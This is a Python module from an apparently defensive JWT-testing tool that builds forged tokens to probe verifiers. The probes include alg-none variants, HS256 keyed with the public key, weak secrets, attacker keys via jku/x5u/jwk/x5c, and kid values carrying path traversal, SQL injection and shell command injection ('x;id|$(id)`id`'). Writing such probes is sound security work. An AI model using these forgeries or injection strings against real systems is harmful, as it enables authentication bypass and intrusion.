"""Forged tokens of family C: headers, algorithms, keys and signatures."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

from lib.crypto import base64url, jwt
from lib.probes.tokens import forge
from lib.probes.tokens.builders import GONE, foreign, own_bytes, own_headed, own_header_bytes, reheaded
from lib.probes.tokens.keys import SigningKey
from lib.probes.tokens.kit import CANARY, JWKS, OWN, Kit, Missing, NamedToken

WEAK_SECRETS = ("secret", "password", "changeme", "your-256-bit-secret", "istio", "keycloak")
DEEP = 5000  # lists in a list
KIB = 1024
UNKNOWN: dict[str, Any] = {"x-unknown": True}
_PLAIN = str.maketrans("-_", "+/")  # from base64url to plain base64


def _hmac(about: str, secret: bytes) -> NamedToken:
    return NamedToken(about, lambda kit: forge.hmac_signed(kit.good, secret))


def _confused(text: str) -> NamedToken:
    """HS256 keyed with a text of the public key."""

    def make(kit: Kit) -> str:
        secret = forge.public_texts(kit.good_key())[text]
        if not secret:
            raise Missing("needs an issuer that publishes certificates with its keys")
        return forge.hmac_signed(kit.good, secret)

    return NamedToken(f"HS256 keyed with the {text} of the public key", make, JWKS)


def _another_kind(kind: str) -> NamedToken:
    """Signed by a new key of another kind, under the real key's name."""

    def make(kit: Kit) -> str:
        key = SigningKey.generate(kind)
        return forge.signed(key, kit.claims(), {**jwt.header(kit.good), "alg": key.alg})

    return NamedToken(f"signed by a new {kind} key, under the real kid", make)


def _es256(about: str, signature: Callable[[], bytes]) -> NamedToken:
    """The good token as ES256, with this signature."""

    def make(kit: Kit) -> str:
        return forge.with_signature(forge.with_header(kit.good, {**jwt.header(kit.good), "alg": "ES256"}), signature())

    return NamedToken(about, make)


def _without_payload(kit: Kit) -> str:
    head, payload, _ = forge.signed(
        kit.own_key, kit.claims(), {"alg": "RS256", "kid": kit.own_key.kid, "b64": False, "crit": ["b64"]}
    ).split(".")
    return f"{head}..{base64url.encoded(kit.own_key.sign(f'{head}.{payload}'.encode()))}"


def _padded_header(kit: Kit) -> str:
    """The header's base64 with = at its end, and a signature over that text."""
    texts = [forge.section({"alg": "RS256", "kid": kit.own_key.kid, "x": "x" * count}) for count in range(2)]
    text = next(text for text in texts if len(text) % 4)
    return forge.sealed(kit.own_key, f"{text}{'=' * (-len(text) % 4)}.{forge.section(kit.claims())}")


def _plain_base64_header(kit: Kit) -> str:
    """The header in plain base64, whose + and / base64url does not have."""
    header = json.dumps({**jwt.header(kit.good), "x": "~~~???"}).encode()
    return ".".join([base64.b64encode(header).decode().rstrip("="), *kit.good.split(".")[1:]])


def _header(text: bytes) -> Callable[[Kit], str]:
    return lambda kit: forge.with_header(kit.good, text)


def _own_of_size(size: int) -> NamedToken:
    about = f"a good token of {size} KiB"
    return NamedToken(about, lambda kit: forge.long(kit.own_key, kit.claims(), size * KIB), OWN)


def _signature(data: bytes) -> Callable[[Kit], str]:
    return lambda kit: forge.with_signature(kit.good, data)


ALGORITHMS = {
    "alg none, no signature": NamedToken(
        "alg none, nothing after the last dot",
        lambda kit: forge.with_signature(forge.with_header(kit.good, {**jwt.header(kit.good), "alg": "none"}), b""),
    ),
    "alg none, signature kept": reheaded("alg none over the real signature", alg="none"),
    "alg None": reheaded("alg None", alg="None"),
    "alg NONE": reheaded("alg NONE", alg="NONE"),
    "alg nOnE": reheaded("alg nOnE", alg="nOnE"),
    "alg none and a space": reheaded("alg none with a space behind it", alg="none "),
    "no alg": reheaded("a header without alg", alg=GONE),
    "alg null": reheaded("alg null", alg=None),
    "alg 256": reheaded("alg is a number", alg=256),
    "alg a list": reheaded("alg is an empty list", alg=[]),
    "alg RS384": reheaded("alg RS384 over the RS256 signature", alg="RS384"),
    "alg RS512": reheaded("alg RS512 over the RS256 signature", alg="RS512"),
    "alg PS256": reheaded("alg PS256 over the RS256 signature", alg="PS256"),
    "alg ES256K": reheaded("alg ES256K", alg="ES256K"),
    "alg HS1": reheaded("alg HS1", alg="HS1"),
    "alg RSA-OAEP": reheaded("alg RSA-OAEP, which encrypts", alg="RSA-OAEP"),
    "alg dir": reheaded("alg dir, which encrypts", alg="dir"),
    "alg rs256": reheaded("alg in lower case", alg="rs256"),
    "own RS384": own_headed("the realm's key, truly signed by RS384", alg="RS384"),
    "own PS256": own_headed("the realm's key, truly signed by PS256", alg="PS256"),
    "HS256 keyed with nothing": _hmac("HS256 with an empty secret", b""),
    **{f"HS256 keyed with {secret}": _hmac("HS256 with a poor secret", secret.encode()) for secret in WEAK_SECRETS},
    **{f"HS256 keyed with the {text}": _confused(text) for text in ("PEM", "DER", "JWK", "modulus", "certificate")},
    "EC key": _another_kind("EC"),
    "EdDSA key": _another_kind("OKP"),
    "ES256 of zeros": _es256("ES256 with r = s = 0", lambda: bytes(64)),
    "ES256 in DER": _es256("ES256 with r = s = 1 in DER", lambda: bytes.fromhex("3006020101020101")),
}

KEYS = {
    "unknown kid": foreign("an attacker's key under its own kid", kid=lambda kit: kit.attacker.kid),
    "real kid": foreign("an attacker's key under the real kid"),
    "no kid": own_headed("the realm's key, without a kid", kid=GONE),
    "no kid, attacker": foreign("an attacker's key, without a kid", kid=GONE),
    "kid of another key": own_headed("the realm's key under another one's kid", kid=lambda kit: kit.good_key()["kid"]),
    "kid 1": reheaded("kid is a number", kid=1),
    "kid null": reheaded("kid is null", kid=None),
    "kid a map": reheaded("kid is an object", kid={}),
    "kid a path": foreign("kid is a path", kid="../../../../dev/null"),
    "kid SQL": foreign("kid is SQL", kid="' OR 1=1--"),
    "kid a command": foreign("kid is a command", kid="x;id|$(id)`id`"),
    "kid of 4 KiB": foreign("kid of 4 KiB", kid="k" * 4 * KIB),
    "kid empty": foreign("an attacker's key under an empty kid", kid=""),
    "kid empty, own": own_headed("the realm's key under an empty kid", kid=""),
    "kid with a NUL": foreign("the real kid and a NUL", kid=lambda kit: jwt.header(kit.good)["kid"] + "\0"),
    "kid for encryption": foreign("kid of the key for encryption", JWKS, kid=lambda kit: kit.encryption_key()["kid"]),
    "jku": foreign("jku names a server of the attacker's", CANARY, jku=lambda kit: f"{kit.canary}/jku"),
    "x5u": foreign("x5u names a server of the attacker's", CANARY, x5u=lambda kit: f"{kit.canary}/x5u"),
    "jku, unknown kid": foreign(
        "jku, and the kid of a key there",
        CANARY,
        jku=lambda kit: f"{kit.canary}/jku",
        kid=lambda kit: kit.attacker.kid,
    ),
    "jwk": foreign("the attacker's key in the header", jwk=lambda kit: kit.attacker.public),
    "jwk, no kid": foreign("the attacker's key in the header, no kid", jwk=lambda kit: kit.attacker.public, kid=GONE),
    "x5c": foreign("the attacker's certificate in the header", x5c=lambda kit: [kit.attacker.certificate()]),
}

SIGNATURES = {
    "signature empty": NamedToken("nothing after the last dot", _signature(b"")),
    "signature gone": NamedToken("no last dot either", lambda kit: kit.good.rpartition(".")[0]),
    "signature AA": NamedToken("a signature of one zero byte", _signature(bytes(1))),
    "signature of zeros": NamedToken("a signature of 256 zero bytes", _signature(bytes(256))),
    "signature longer": NamedToken(
        "a zero byte behind the signature",
        lambda kit: forge.with_signature(kit.good, base64url.decoded(kit.good.rpartition(".")[2]) + bytes(1)),
    ),
    "signature malleable": NamedToken(
        "the last character changed in bits that base64 ignores", lambda kit: forge.malleable(kit.good)
    ),
    "signature padded": NamedToken("the signature padded with =", lambda kit: kit.good + "=="),
    "signature with a space": NamedToken("a space in the signature", lambda kit: f"{kit.good[:-8]} {kit.good[-8:]}"),
    "signature in plain base64": NamedToken(
        "+ and / for - and _ in the signature",
        lambda kit: ".".join([*kit.good.split(".")[:2], kit.good.split(".")[2].translate(_PLAIN)]),
    ),
    "tampered": NamedToken("one bit of the signature changed", lambda kit: jwt.tampered(kit.good)),
    "cut by 1": NamedToken("without its last character", lambda kit: forge.cut(kit.good, 1)),
    "cut by 10": NamedToken("without its last 10 characters", lambda kit: forge.cut(kit.good, 10)),
    "cut by 100": NamedToken("without its last 100 characters", lambda kit: forge.cut(kit.good, 100)),
    "five parts": NamedToken("in the form of an encrypted token", lambda kit: forge.five_parts(kit.good)),
    "empty section": NamedToken("two dots for the first", lambda kit: kit.good.replace(".", "..", 1)),
}
HEADERS = {
    "crit unknown": own_headed("crit names what nobody knows", crit=["x-unknown"], **UNKNOWN),
    "crit empty": own_headed("crit is an empty list", crit=[]),
    "b64 false, detached": NamedToken("b64 false and no payload", _without_payload, OWN),
    "b64 false": own_headed("b64 false, which the signature does not heed", b64=False, crit=["b64"]),
    "zip": own_headed("zip, though nothing is compressed", zip="DEF"),
    "cty JWT": own_headed("cty JWT, though nothing is nested", cty="JWT"),
    "typ JWE": own_headed("header typ JWE", typ="JWE"),
    "no header typ": own_headed("no header typ", typ=GONE),
    "header typ at+jwt": own_headed("header typ at+jwt, as RFC 9068 has it", typ="at+jwt"),
    "header typ logout+jwt": own_headed("header typ logout+jwt", typ="logout+jwt"),
    "alg twice, none last": own_header_bytes(
        "alg twice, the last none", lambda header: forge.repeated(header, "alg", ["RS256", "none"])
    ),
    "alg twice, none first": own_header_bytes(
        "alg twice, the first none", lambda header: forge.repeated(header, "alg", ["none", "RS256"])
    ),
    "header in single quotes": own_header_bytes(
        "JSON of no standard: single quotes", lambda header: json.dumps(header).replace('"', "'").encode()
    ),
    "header with a comma too many": own_header_bytes(
        "JSON of no standard: a comma before the end", lambda header: json.dumps(header).encode()[:-1] + b",}"
    ),
    "header with more behind": own_header_bytes(
        "another object behind the header", lambda header: json.dumps(header).encode() + b'{"alg":"none"}'
    ),
    "header in plain base64": NamedToken("+ and / in the header", _plain_base64_header),
    "header with a bad character": NamedToken(
        "an exclamation mark in the header", lambda kit: f"{kit.good[:4]}!{kit.good[4:]}"
    ),
    "header padded": NamedToken("the header padded with =, signed so", _padded_header, OWN),
    "header empty object": NamedToken("the header is {}", _header(b"{}")),
    "header a list": NamedToken("the header is []", _header(b"[]")),
    "header null": NamedToken("the header is null", _header(b"null")),
    "header cut": NamedToken("the header's JSON has no end", _header(b'{"alg":"RS256","kid":')),
    "header deep": NamedToken(
        f"a list {DEEP} deep in the header",
        lambda kit: forge.with_header(kit.good, forge.raw_member(jwt.header(kit.good), "x", forge.nested(DEEP))),
    ),
    "payload deep": own_bytes(
        f"a list {DEEP} deep in the payload", lambda claims: forge.raw_member(claims, "x", forge.nested(DEEP))
    ),
    "payload 50 deep": own_bytes(
        "a list 50 deep in the payload", lambda claims: forge.raw_member(claims, "x", forge.nested(50))
    ),
}

SIZES = {f"own {size} KiB": _own_of_size(size) for size in (8, 16, 32, 55)}

TOKENS: dict[str, NamedToken] = {**ALGORITHMS, **KEYS, **SIGNATURES, **HEADERS, **SIZES}
